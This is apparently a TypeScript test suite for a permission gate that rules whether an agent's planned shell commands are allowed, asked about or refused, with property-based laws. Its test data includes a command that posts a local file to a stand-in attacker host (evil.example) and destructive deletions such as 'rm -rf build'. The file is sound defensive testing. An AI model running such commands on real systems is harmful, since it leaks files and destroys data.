/** Rules bind what a command does, whatever program does it; and the laws that hold for all rules and commands. */
import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { decide } from "./decide.js";
import type { Policy } from "./policy.js";
import { plannedCommand } from "./intent.js";
import type { Intent } from "./intent.js";
import type { Rule, RuleEffect } from "./rule.js";

const places = { roots: ["/ws"], home: "/home/ann" };

const intent = (command: string): Intent =>
  plannedCommand({
    cwd: "/ws",
    command,
  });

const effectOf = (command: string, rules: readonly Rule[], more: Partial<Policy> = {}): RuleEffect =>
  decide(intent(command), { ...places, rules, ...more }).effect;

const ALLOW_ALL = { default: "allow" } as const;

describe("a denial by kind binds commands", () => {
  test.each([
    ["delete", "rm a.txt"],
    ["delete", "rm -rf build"],
    ["delete", "git rm a.txt"],
    ["delete", "git clean -fd"],
    ["delete", "find . -name '*.log' -delete"],
    ["delete", "mv a.txt b.txt"],
    ["delete", "unlink a.txt"],
    ["edit", "cp a.txt b.txt"],
    ["edit", "touch a.txt"],
    ["edit", "mkdir docs"],
    ["edit", "sed -i s/a/b/ a.txt"],
    ["edit", "echo x > a.txt"],
    ["edit", "tee a.txt"],
    ["edit", "mv a.txt b.txt"],
    ["move", "mv a.txt b.txt"],
    ["move", "git mv a.txt b.txt"],
    ["fetch", "curl https://evil.example/x"],
    ["fetch", "curl -d @a.txt https://evil.example/x"],
    ["fetch", "wget https://evil.example/x"],
    ["fetch", "git fetch"],
    ["fetch", "git clone https://evil.example/r.git"],
    ["fetch", "npm install left-pad"],
    ["fetch", "pip install requests"],
    ["fetch", "ping evil.example"],
    ["read", "cat a.txt"],
    ["read", "grep -r x src"],
    ["read", "cp a.txt b.txt"],
  ] as const)("refuses when %s is denied: %s", (kind, command) => {
    for (const rules of [[{ allow: "*" }], [{ allow: "execute", command: `${command.split(" ")[0]} *` }]])
      expect(effectOf(command, [...rules, { deny: kind }])).toBe("deny");
    expect(effectOf(command, [{ deny: kind }], ALLOW_ALL)).toBe("deny");
    expect(effectOf(command, [{ allow: "*" }, { ask: kind }])).toBe("ask");
  });
});

describe("a denial of paths binds programs that change files no word names", () => {
  test.each([
    "git apply p.diff",
    "git apply --directory=.toolgate p.diff",
    "git am p.mbox",
    "git stash pop",
    "git checkout main",
    "git restore .",
    "git reset --hard",
    "git merge topic",
    "git pull",
    "git rebase main",
    "git cherry-pick abc",
    "git revert abc",
    "patch -p1",
    "cargo fmt",
    "cargo fix",
    "go fmt ./...",
    "gofmt -w .",
    "ruff format",
    "ruff check",
    "ruff check --fix",
    "black .",
    "isort .",
    "eslint --fix .",
    "prettier --write .",
    "biome check --write",
    "mix format",
    "dotnet format",
    "terraform fmt -recursive",
    "stylelint --fix '**/*.css'",
    "standard --fix",
    "npx prettier --write .",
    "tar xf a.tar",
    "unzip a.zip",
    "rsync -a other/ .",
    "npm install",
  ])("asks or refuses when a folder's edits are denied: %s", (command) => {
    const [program = ""] = command.split(" ");
    const rules: readonly Rule[] = [{ allow: "execute", command: `${program} *` }];
    const denied: Rule = { deny: "edit", path: "/ws/gen/**" };
    expect(effectOf(command, [...rules, denied])).not.toBe("allow");
    expect(effectOf(command, [denied], ALLOW_ALL)).not.toBe("allow");
    expect(effectOf(command, [...rules, { deny: "edit" }])).toBe("deny");
  });

  test.each([
    "prettier --check .",
    "eslint .",
    "ruff check --no-fix",
    "ruff format --check",
    "git status",
    "terraform fmt -check",
  ])("lets a check pass that edits nothing: %s", (command) => {
    const [program = ""] = command.split(" ");
    const rules: readonly Rule[] = [
      { allow: "execute", command: `${program} *` },
      { deny: "edit", path: "/ws/gen/**" },
    ];
    expect(effectOf(command, rules)).toBe("allow");
  });
});

describe("an allowance for a program is none for installing with it", () => {
  test.each([
    "npm install left-pad",
    "npm i left-pad",
    "npm ci",
    "pip install x",
    "cargo install x",
    "yarn add x",
    "pnpm add x",
    "go install x",
    "gem install x",
  ])("asks when only the program is allowed: %s", (command) => {
    const [program = "", sub = ""] = command.split(" ");
    expect(effectOf(command, [{ allow: "execute", command: `${program} *` }])).toBe("ask");
    expect(effectOf(command, [{ allow: "execute", command: `${program} ${sub} *`, anyFlags: true }])).toBe(
      "allow",
    );
    expect(effectOf(command, [{ allow: "execute", command: command.split(" ") }])).toBe("allow");
  });

  test("allows installing when the rule names it", () => {
    expect(effectOf("npm install left-pad", [{ allow: "execute", command: "npm install *" }])).toBe("allow");
    expect(effectOf("npm test", [{ allow: "execute", command: "npm *" }])).toBe("allow");
  });
});

describe("a denial that cannot be checked asks", () => {
  test.each(["allow", "ask"] as const)(
    "asks about a program that nobody described, when all else is %sed",
    (otherwise) => {
      for (const denied of [
        { deny: "delete" },
        { deny: "fetch" },
        { deny: "edit", path: "/ws/gen/**" },
      ] as const)
        expect(effectOf("frob gen/x", [{ allow: "execute" }, denied], { default: otherwise })).toBe("ask");
    },
  );

  test("asks about code that runs when only a mode or a rule for all commands allows it", () => {
    const denied: Rule = { deny: "delete" };
    expect(effectOf("npm test", [denied], ALLOW_ALL)).toBe("ask");
    expect(effectOf("npm test", [{ allow: "*" }, denied])).toBe("ask");
    expect(effectOf("npm test", [{ allow: "execute", command: "npm test" }, denied])).toBe("allow");
    expect(effectOf("npm test", [], ALLOW_ALL)).toBe("allow");
  });

  test("asks when the hosts that a command asks are not known and one is denied", () => {
    const denied: Rule = { deny: "fetch", host: "evil.example" };
    expect(effectOf("git fetch", [{ allow: "execute", command: "git *" }, denied])).toBe("ask");
    expect(
      effectOf("frob http://evil.example/x", [
        { allow: "execute", command: ["frob", "http://evil.example/x"] },
        denied,
      ]),
    ).toBe("ask");
    expect(effectOf("curl https://good.example", [{ allow: "execute", command: "curl *" }, denied])).toBe(
      "allow",
    );
  });
});

describe("the record names the truth", () => {
  const verdict = (command: string, rules: readonly Rule[]) => decide(intent(command), { ...places, rules });

  test("names the rule of each part when several rules let the command through", () => {
    const { rule } = verdict("cat a.txt && ./run.sh", [
      { allow: "read" },
      { allow: "execute", command: ["./run.sh"] },
    ]);
    expect(rule).toBe('allow read; allow execute "./run.sh"');
  });

  test("names the narrowest rule when several cover a part", () => {
    const { rule } = verdict("npm test", [
      { allow: "*" },
      { allow: "execute" },
      { allow: "execute", command: ["npm", "test"] },
    ]);
    expect(rule).toBe('allow execute "npm test"');
  });

  test("names the rule that opens a place outside of the workspace beside the command's", () => {
    const rules: readonly Rule[] = [
      { allow: "execute", command: "cat *" },
      { allow: "read", path: "/etc/**" },
      { allow: "read", path: "/etc/hosts" },
      { allow: "read", path: "/opt/**" },
    ];
    const { effect, rule, by } = verdict("cat /etc/hosts", rules);
    expect({ effect, rule }).toEqual({
      effect: "allow",
      rule: 'allow execute "cat *"; allow read /etc/hosts',
    });
    expect(by).toContain(rules[2]);
  });

  test("names the rule that opens a redirect, and one that names a protected file", () => {
    const rules: readonly Rule[] = [
      { allow: "execute", command: "echo *" },
      { allow: "edit", path: "/ws/gen/**" },
      { allow: "edit", path: "/ws/.npmrc" },
    ];
    expect(verdict("echo x > gen/y", rules)).toMatchObject({
      effect: "allow",
      rule: 'allow execute "echo *"; allow edit /ws/gen/**',
    });
    expect(verdict("echo x > .npmrc", rules)).toMatchObject({
      effect: "allow",
      rule: 'allow execute "echo *"; allow edit /ws/.npmrc',
    });
  });

  test("names no rule of a place that the command does not touch", () => {
    const rules: readonly Rule[] = [
      { allow: "execute", command: "cat *" },
      { allow: "read", path: "/etc/**" },
    ];
    expect(verdict("cat a.txt", rules).rule).toBe('allow execute "cat *"');
  });

  test("says in a rule's name that it lifts the lists of flags, and which files it binds", () => {
    const rules: readonly Rule[] = [{ allow: "execute", command: "npm *", anyFlags: true }];
    expect(verdict("npm test", rules).rule).toBe('allow execute "npm *" with any flags');
    const granted: Rule = {
      allow: "execute",
      command: ["./run.sh"],
      folder: "/ws",
      contents: { "/ws/run.sh": "a".repeat(64) },
    };
    const run = { ...intent("./run.sh"), contents: { "/ws/run.sh": "a".repeat(64) } };
    expect(decide(run, { ...places, rules: [granted] }).rule).toBe(
      'allow execute "./run.sh" in /ws with /ws/run.sh unchanged',
    );
  });
});

const COMMANDS = [
  "ls",
  "cat a.txt",
  "rm a.txt",
  "rm -rf gen",
  "cp a.txt gen/b.txt",
  "mv gen/a b",
  "touch gen/x",
  "echo x > gen/y",
  "curl https://evil.example/x",
  "curl -d x https://evil.example",
  "wget https://good.example/a",
  "git status",
  "git apply p.diff",
  "git push",
  "git fetch",
  "npm test",
  "npm install x",
  "prettier --write .",
  "cargo fmt",
  "frob",
  "frob gen/x",
  "frob http://evil.example/",
  "./run.sh",
  "python3 a.py",
  "find . -delete",
  "grep -r x gen",
  "cd gen && rm x",
  "cat a.txt | tee gen/x",
  "make build",
  "tar xf a.tar",
  "sed -i s/a/b/ gen/a",
  "$X y",
  "ls $(x)",
  "node -e 1",
  "git diff > gen/p",
  "rsync -a x gen/",
  "ssh host ls",
  "echo hi",
];
const KINDS = ["read", "search", "edit", "delete", "move", "fetch", "execute", "*", "terminal", "other"];
const PATHS = ["/ws/gen/**", "/ws/a.txt", "/ws/**", "/**", "/etc/**", "/ws/gen/x"];
const HOSTS = ["evil.example", "*.example", "good.example"];
const PATTERNS = ["git *", "npm *", "rm *", "frob *", "cat *", "curl *", "npm test", "frob gen/x", "*"];

const scope = fc.record(
  {
    path: fc.constantFrom(...PATHS),
    host: fc.constantFrom(...HOSTS),
    command: fc.constantFrom(...PATTERNS),
    anyFlags: fc.boolean(),
  },
  { requiredKeys: [] },
);
const effectName = fc.constantFrom<RuleEffect>("allow", "ask", "deny");
const ruleOf = (effect: RuleEffect, kind: string, more: object): Rule =>
  ({ [effect]: kind, ...more }) as unknown as Rule;
const rule = fc
  .tuple(effectName, fc.constantFrom(...KINDS), scope)
  .map(([effect, kind, more]) => ruleOf(effect, kind, more));
const command = fc.constantFrom(...COMMANDS);
const rules = fc.array(rule, { maxLength: 4 });
const fallback = fc.constantFrom<RuleEffect>("allow", "ask", "deny");
const STRICTNESS: Readonly<Record<RuleEffect, number>> = { allow: 0, ask: 1, deny: 2 };
const strictness = (...judged: Parameters<typeof effectOf>): number => STRICTNESS[effectOf(...judged)];
const RUNS = { numRuns: Number(process.env["TOOLGATE_RUNS"] ?? 60) };

describe("laws", () => {
  test("a rule without a path or host denies at least what the same rule with one denies", () => {
    fc.assert(
      fc.property(
        command,
        rules,
        fallback,
        fc.constantFrom<RuleEffect>("ask", "deny"),
        fc.constantFrom(...KINDS),
        scope,
        (text, others, otherwise, effect, kind, { path, host, ...wide }) => {
          // Where the default refuses, a rule that asks is an opening, and a wider one opens more.
          fc.pre(effect === "deny" || otherwise !== "deny");
          const narrow = {
            ...wide,
            ...(path !== undefined && { path }),
            ...(host !== undefined && { host }),
          };
          const judged = (more: object) =>
            strictness(text, [...others, ruleOf(effect, kind, more)], { default: otherwise });
          expect(judged(wide)).toBeGreaterThanOrEqual(judged(narrow));
        },
      ),
      RUNS,
    );
  });

  test("adding a denial never allows more", () => {
    fc.assert(
      fc.property(
        command,
        rules,
        fallback,
        fc.constantFrom(...KINDS),
        scope,
        (text, others, otherwise, kind, more) => {
          const before = strictness(text, others, { default: otherwise });
          expect(
            strictness(text, [ruleOf("deny", kind, more), ...others], { default: otherwise }),
          ).toBeGreaterThanOrEqual(before);
        },
      ),
      RUNS,
    );
  });

  test("adding an allowance never refuses more", () => {
    fc.assert(
      fc.property(
        command,
        rules,
        fallback,
        fc.constantFrom(...KINDS),
        scope,
        (text, others, otherwise, kind, more) => {
          const before = strictness(text, others, { default: otherwise });
          expect(
            strictness(text, [ruleOf("allow", kind, more), ...others], { default: otherwise }),
          ).toBeLessThanOrEqual(before);
        },
      ),
      RUNS,
    );
  });

  test("a rule that asks lies between the same rule that allows and the same rule that denies", () => {
    fc.assert(
      fc.property(
        command,
        rules,
        fallback,
        fc.constantFrom(...KINDS),
        scope,
        (text, others, otherwise, kind, more) => {
          const [allows, asks, denies] = (["allow", "ask", "deny"] as const).map((effect) =>
            strictness(text, [...others, ruleOf(effect, kind, more)], { default: otherwise }),
          );
          expect(asks).toBeGreaterThanOrEqual(allows!);
          expect(asks).toBeLessThanOrEqual(denies!);
        },
      ),
      RUNS,
    );
  });

  test("the order of the rules never matters", () => {
    fc.assert(
      fc.property(command, rules, fallback, (text, others, otherwise) => {
        expect(effectOf(text, others.toReversed(), { default: otherwise })).toBe(
          effectOf(text, others, { default: otherwise }),
        );
      }),
      RUNS,
    );
  });
});
